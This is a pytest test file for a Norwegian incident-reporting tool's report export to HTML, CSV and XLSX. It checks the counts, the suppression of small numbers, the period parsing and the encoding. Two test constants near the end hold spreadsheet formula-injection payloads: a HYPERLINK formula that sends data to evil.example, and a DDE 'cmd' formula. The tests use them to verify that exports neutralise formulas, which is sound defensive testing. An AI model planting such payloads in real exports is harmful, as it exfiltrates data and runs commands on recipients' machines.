"""`meld report`: the tertial and annual report written as HTML, CSV and XLSX end to end."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from intake import services
from intake.cli.main import main
from intake.domain.model import Actor, Role
from intake.domain.periods import parse_period
from intake.i18n import Translator
from intake.settings import Settings
from tests.integration.helpers import draft

REPORTER = Actor("web:report-test", Role.REPORTER)
GROUP = Actor("cli:report-test", Role.ADMIN)
LEARNING_POINT = "Epikrisen <b>må</b> sendes samme dag – også i helgene (æøå)"


@pytest.fixture
def cli_settings(db_url: str) -> Settings:
    return Settings(database_url=db_url, secret_key="test-secret" * 3)


@pytest.fixture
def reports(ctx) -> list[str]:
    """1. tertial 2026: 3 discharge summaries, 2 referrals, 1 medication suggestion (one
    closed with a learning point); and 1 discharge summary a year earlier."""
    refs = [services.submit_report(ctx=ctx, actor=REPORTER, draft=d).reference for d in (
        draft(), draft(), draft(),
        draft(category="referral", subcategory="misrouted", occurred_on="2026-01-15"),
        draft(category="referral", subcategory="misrouted", occurred_on="2026-01-16"),
        draft(kind="suggestion", category="medication", subcategory="med_list",
              occurred_on="2026-03-01", severity="unknown"),
        draft(occurred_on="2025-02-10"),
    )]
    services.assess(ctx=ctx, actor=GROUP, reference=refs[0], assessed_severity="moderate")
    services.move_status(ctx=ctx, actor=GROUP, reference=refs[0], status="in_progress")
    services.close(ctx=ctx, actor=GROUP, reference=refs[0], learning_point=LEARNING_POINT,
                   measure="Ny rutine i Medisinsk klinikk")
    return refs


def run(settings: Settings, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str,
                                                                                     str]:
    code = main(list(argv), settings=settings)
    out = capsys.readouterr()
    return code, out.out, out.err


def test_report_in_all_three_formats(cli_settings, capsys, reports, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    files = {fmt: tmp_path / "var" / f"t1.{fmt}" for fmt in ("html", "csv", "xlsx")}
    for fmt, path in files.items():
        code, out, _ = run(cli_settings, capsys, "report", "--tertial", "2026-T1",
                           "--format", fmt, "--out", str(path))
        assert code == 0
        label = parse_period("2026-T1", Translator("nb")).label
        assert out.strip() == f"Rapporten for {label} er skrevet til {path}."
        assert path.is_file() and not list(path.parent.glob(".*.partial"))

    html = files["html"].read_text(encoding="utf-8")
    assert "Tertialrapport fra Forbedringsgruppen" in html and "@page" in html
    assert html.count("<svg") == 2 and not re.search(r"https?://", html)
    assert re.search(r'<th scope="row">Epikrise</th><td class="num">3</td>', html)
    assert re.search(r'<th scope="row">Henvisning</th><td class="num">&lt;3</td>', html)
    assert re.search(r'<th scope="row">Legemidler</th><td class="num">&lt;3</td>', html)
    assert "Epikrisen &lt;b&gt;må&lt;/b&gt; sendes" in html and "<b>" not in html

    raw = files["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read æøå right
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert ["totals", "reports", "Meldinger i alt", "6", "0", "1"] in rows
    by_category = {r[1]: r[3] for r in rows if r and r[0] == "category"}
    assert by_category["discharge_summary"] == "3" and by_category["referral"] == "2"
    assert by_category["medication"] == "1" and by_category["competence"] == "0"
    assert by_category["_total"] == "6"
    for section in ("kind", "category", "reported_severity", "severity_merged", "month"):
        body = [int(r[3]) for r in rows if r and r[0] == section and r[1] != "_total"]
        assert sum(body) == 6, section
    assert any(r[1:2] == [reports[0]] and r[4] == LEARNING_POINT for r in rows)

    wb = openpyxl.load_workbook(files["xlsx"])
    assert wb.sheetnames[0] == "Oversikt" and wb.sheetnames[-1] == "Læringspunkter"
    category = {r[0]: r[1] for r in wb["Kategori"].iter_rows(min_row=2, values_only=True)}
    assert category["Epikrise"] == 3 and category["Henvisning"] == "<3"
    assert category["Kompetanse og opplæring"] == 0
    lp = list(wb["Læringspunkter"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[3]) for r in lp] == [(reports[0], LEARNING_POINT)]


def test_unsuppressed_and_annual(cli_settings, capsys, reports, tmp_path: Path) -> None:
    target = tmp_path / "t1.html"
    code, _, err = run(cli_settings, capsys, "report", "--tertial", "2026-t1", "--out",
                       str(target), "--unsuppressed")
    html = target.read_text(encoding="utf-8")
    assert code == 0 and "bare for Forbedringsgruppen" in err
    assert re.search(r'<th scope="row">Henvisning</th><td class="num">2</td>', html)
    assert "&lt;3" not in html

    annual = tmp_path / "2026.xlsx"  # the format follows the file name
    code, out, _ = run(cli_settings, capsys, "report", "--year", "2026", "--out", str(annual))
    assert code == 0 and "Rapporten for 2026" in out
    assert annual.read_bytes()[:2] == b"PK"


@pytest.mark.parametrize(("argv", "words"), [
    (["--tertial", "2026-T4"], "Ukjent periode «2026-T4». Skriv den slik: 2026-T1."),
    (["--tertial", "2026"], "Ukjent periode «2026». Skriv den slik: 2026-T1."),
    (["--year", "2026-T1"], "Ukjent periode «2026-T1». Skriv den slik: 2026."),
    (["--year", "0001"], "0001"),
])
def test_a_bad_period_is_refused_in_words(sqlite_url, capsys, tmp_path, argv, words) -> None:
    settings = Settings(database_url=sqlite_url, secret_key="test-secret" * 3)
    target = tmp_path / "r.html"
    code, out, err = run(settings, capsys, "report", *argv, "--out", str(target))
    assert code == 2 and out == "" and words in err and err.startswith("meld: ")
    assert "Traceback" not in err and not target.exists()


HOSTILE_POINT = '=HYPERLINK("https://evil.example/?d="&A1;"Se avtalen")'
HOSTILE_MEASURE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(ctx) -> str:
    """A report closed with a learning point and a measure that a spreadsheet would run."""
    ref = services.submit_report(ctx=ctx, actor=REPORTER, draft=draft()).reference
    services.move_status(ctx=ctx, actor=GROUP, reference=ref, status="in_progress")
    services.close(ctx=ctx, actor=GROUP, reference=ref, learning_point=HOSTILE_POINT,
                   measure=HOSTILE_MEASURE)
    return ref


@pytest.mark.parametrize(("dialect", "delimiter"), [("standard", ","), ("excel-nb", ";")])
def test_report_csv_defuses_formulas(cli_settings, capsys, hostile, tmp_path: Path, dialect,
                                     delimiter) -> None:
    target = tmp_path / "t1.csv"
    code, _, _ = run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
                     str(target), "--csv-dialect", dialect)
    assert code == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))
    (learning,) = [r for r in rows if r and r[0] == "learning_point"]
    assert learning[1] == hostile
    assert learning[4:] == ["'" + HOSTILE_POINT, "'" + HOSTILE_MEASURE]
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@"))]


def test_report_xlsx_keeps_formulas_as_text(cli_settings, capsys, hostile, tmp_path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    target = tmp_path / "t1.xlsx"
    assert run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
               str(target))[0] == 0
    ws = openpyxl.load_workbook(target)["Læringspunkter"]
    point, measure = ws["D2"], ws["E2"]
    assert (ws["A2"].value, point.value, measure.value) == (hostile, HOSTILE_POINT,
                                                           HOSTILE_MEASURE)
    assert point.data_type == measure.data_type == "s" and point.quotePrefix
    assert measure.quotePrefix and not ws["A2"].quotePrefix


def test_report_csv_for_a_norwegian_excel(cli_settings, capsys, reports, tmp_path) -> None:
    """--csv-dialect excel-nb: semicolons, decimal commas and a byte-order mark, so a
    Norwegian Excel opens it in columns with æøå right."""
    target = tmp_path / "t1-nb.csv"
    code, _, err = run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out",
                       str(target), "--csv-dialect", "excel-nb")
    assert code == 0 and "Forbedringsgruppen" in err
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfsection;key;label;count;previous;year_ago\n")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert ["totals", "reports", "Meldinger i alt", "6", "0", "1"] in rows
    assert ["totals", "feedback_share", "Andel meldinger der melderen fikk tilbakemelding",
            "0,1667", "", ""] in rows
    assert ["kind", "_total", "Sum", "6", "0", "1"] in rows  # the sum row has comparisons
    assert any(r[1:2] == [reports[0]] and r[4] == LEARNING_POINT for r in rows)  # æøå
    with pytest.raises(SystemExit) as refused:  # argparse: usage and the choices
        run(cli_settings, capsys, "report", "--tertial", "2026-T1", "--out", str(target),
            "--csv-dialect", "excel-se")
    assert refused.value.code == 2 and "excel-nb" in capsys.readouterr().err
